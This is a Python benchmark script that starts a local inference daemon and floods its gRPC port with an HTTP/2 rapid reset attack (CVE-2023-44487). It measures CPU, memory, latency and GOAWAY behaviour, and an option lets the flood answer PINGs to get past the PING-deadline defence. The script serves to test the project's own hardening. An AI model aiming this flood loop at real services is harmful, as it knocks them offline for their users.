"""HTTP/2 rapid reset (CVE-2023-44487) against the daemon's gRPC port, without a token.

    python bench/bench_rapid_reset.py --seconds 15 --out bench/results/rapid_reset.json

One raw HTTP/2 connection sends HEADERS + RST_STREAM pairs (``ModelInfer`` without a token, and
``ServerLive``) as fast as it can for ``--seconds``, reading whatever the server sends; meanwhile a
stock gRPC client calls ``ServerLive`` and an authenticated ``ModelInfer`` once per 100 ms. The
figures: streams sent, the daemon's CPU seconds and peak RSS growth over the attack, the health
and inference latencies seen by the other client (p50/p99, failures), and whether the server sent
GOAWAY (grpcio's chttp2 transport has no per-connection reset budget: it refuses streams over
``grpc.max_concurrent_streams`` and tarpits; the daemon makes it PING on every reset and close a
connection that does not answer; see docs/hardening.md).

``--answer-pings`` makes the flood client speak HTTP/2 back: it acknowledges every PING (and
SETTINGS) the server sends, as a real HTTP/2 stack would, so the PING deadline never closes it and
the figures show the bound that holds for such a client.
"""

from __future__ import annotations

import argparse
import json
import os
import re
import statistics
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

import numpy as np

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO / "tests" / "daemon"))

import h2raw  # noqa: E402
from conftest import install, make_bundle  # noqa: E402

TOKEN = "bench-token"


def _proc_stat(pid: int) -> tuple[float, int]:
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    cpu = (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")
    rss = int(Path(f"/proc/{pid}/statm").read_text().split()[1]) * os.sysconf("SC_PAGE_SIZE")
    return cpu, rss


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--seconds", type=float, default=15.0)
    ap.add_argument("--out", type=Path)
    ap.add_argument("--daemon-args", default="", help="more cuvil-edged options, e.g. '--request-timeout 5'")
    ap.add_argument("--answer-pings", action="store_true", help="the flood client acknowledges PINGs and SETTINGS")
    args = ap.parse_args()
    import grpc
    import tritonclient.grpc as grpcclient

    from cuvil_edge.daemon.proto import grpc_service_pb2 as pb
    from cuvil_edge.daemon.proto.grpc_service_pb2_grpc import GRPCInferenceServiceStub
    from cuvil_edge.models import build_digits_cnn

    work = Path(tempfile.mkdtemp(prefix="cuvil-rapid-reset-"))
    store = work / "store"
    store.mkdir()
    x = np.random.default_rng(0).random((4, 1, 8, 8), dtype=np.float32)
    install(store, make_bundle(work / "src", build_digits_cnn(work / "digits.onnx"), "digits", "1.0.0", sample=x))
    log = work / "daemon.log"
    with log.open("wb") as out:
        daemon = subprocess.Popen([sys.executable, "-m", "cuvil_edge.daemon.main", "--store", str(store), "--port", "0",
                                   "--grpc-port", "0", "--token", TOKEN, *args.daemon_args.split()],
                                  stdout=out, stderr=subprocess.STDOUT, cwd=REPO)
    try:
        deadline = time.monotonic() + 60
        while not (m := re.search(r"grpc://(\S+?),? serving", log.read_text())):
            if daemon.poll() is not None or time.monotonic() > deadline:
                raise SystemExit(f"daemon did not start:\n{log.read_text()}")
            time.sleep(0.05)
        address = m.group(1)
        stop = threading.Event()
        live_ms: list[float] = []
        infer_ms: list[float] = []
        failures: list[str] = []

        def probe() -> None:
            client = grpcclient.InferenceServerClient(address)
            inp = grpcclient.InferInput("input", [1, 1, 8, 8], "FP32")
            inp.set_data_from_numpy(x[:1])
            with grpc.insecure_channel(address) as ch:
                stub = GRPCInferenceServiceStub(ch)
                while not stop.is_set():
                    for kind, call in (("live", lambda: stub.ServerLive(pb.ServerLiveRequest(), timeout=5)),
                                       ("infer", lambda: client.infer("digits", [inp], headers={
                                           "authorization": f"Bearer {TOKEN}"}, client_timeout=5))):
                        t = time.perf_counter()
                        try:
                            call()
                            (live_ms if kind == "live" else infer_ms).append((time.perf_counter() - t) * 1000)
                        except Exception as exc:  # noqa: BLE001 - counted, reported
                            failures.append(f"{kind}: {type(exc).__name__}: {str(exc)[:120]}")
                    time.sleep(0.1)
            client.close()

        prober = threading.Thread(target=probe, daemon=True)
        prober.start()
        time.sleep(1.0)
        cpu0, rss0 = _proc_stat(daemon.pid)
        peak = [rss0]
        sent = 0
        acks = 0
        kinds: dict[int, int] = {}
        sock = h2raw.connect(address)
        sock.setblocking(False)
        buf = bytearray()
        sid = 1
        t_end = time.monotonic() + args.seconds
        closed = False
        while time.monotonic() < t_end and not closed:
            batch = bytearray()
            for _ in range(200):
                batch += h2raw.grpc_headers(sid, "ModelInfer" if sid % 4 == 1 else "ServerLive") + h2raw.rst(sid)
                sid += 2
            try:
                sock.sendall(bytes(batch))
                sent += 200
            except (BlockingIOError, InterruptedError):
                pass
            except (BrokenPipeError, ConnectionResetError):
                closed = True
            while True:
                try:
                    chunk = sock.recv(1 << 20)
                except (BlockingIOError, InterruptedError):
                    break
                except ConnectionResetError:
                    closed = True
                    break
                if not chunk:
                    closed = True
                    break
                buf += chunk
            i = 0
            replies = bytearray()
            while i + 9 <= len(buf) and i + 9 + int.from_bytes(buf[i:i + 3], "big") <= len(buf):
                length, kind, flags = int.from_bytes(buf[i:i + 3], "big"), buf[i + 3], buf[i + 4]
                kinds[kind] = kinds.get(kind, 0) + 1
                if args.answer_pings and not flags & h2raw.ACK:
                    if kind == h2raw.PING:
                        replies += h2raw.frame(h2raw.PING, h2raw.ACK, 0, bytes(buf[i + 9:i + 9 + length]))
                    elif kind == h2raw.SETTINGS and kinds[kind] > 1:  # h2raw.connect acked the first
                        replies += h2raw.frame(h2raw.SETTINGS, h2raw.ACK, 0)
                i += 9 + length
            del buf[:i]
            if replies:
                try:
                    sock.setblocking(True)
                    sock.sendall(bytes(replies))
                    acks += 1
                except (BrokenPipeError, ConnectionResetError):
                    closed = True
                finally:
                    sock.setblocking(False)
            peak[0] = max(peak[0], _proc_stat(daemon.pid)[1])
            if sid > 0x7FFFFF00:
                break
        elapsed = args.seconds - max(0.0, t_end - time.monotonic())
        cpu1, _ = _proc_stat(daemon.pid)
        sock.close()
        time.sleep(1.0)
        stop.set()
        prober.join(10)
        names = {0: "DATA", 1: "HEADERS", 3: "RST_STREAM", 4: "SETTINGS", 6: "PING", 7: "GOAWAY", 8: "WINDOW_UPDATE"}

        def pct(v: list[float], q: float) -> float | None:
            return round(float(np.percentile(v, q)), 2) if v else None

        result = {
            "attack_seconds": round(elapsed, 1), "streams_sent": sent, "streams_per_s": round(sent / elapsed),
            "client_answers_pings": args.answer_pings, "ack_batches_sent": acks,
            "connection_closed_by_server": closed, "goaway": kinds.get(7, 0) > 0,
            "frames_from_server": {names.get(k, str(k)): n for k, n in sorted(kinds.items())},
            "daemon_cpu_s": round(cpu1 - cpu0, 2), "daemon_rss_growth_mb": round((peak[0] - rss0) / 2**20, 1),
            "other_client": {"live_ms_p50": pct(live_ms, 50), "live_ms_p99": pct(live_ms, 99),
                             "infer_ms_p50": pct(infer_ms, 50), "infer_ms_p99": pct(infer_ms, 99),
                             "calls": len(live_ms) + len(infer_ms), "failures": len(failures),
                             "failure_examples": failures[:3],
                             "live_ms_median_all": round(statistics.median(live_ms), 2) if live_ms else None},
            "daemon_alive": daemon.poll() is None,
            "daemon_errors": [ln for ln in log.read_text().splitlines() if " ERROR " in ln][:5],
        }
    finally:
        daemon.terminate()
        daemon.wait(30)
    text = json.dumps(result, indent=2)
    print(text)
    if args.out:
        args.out.write_text(text + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
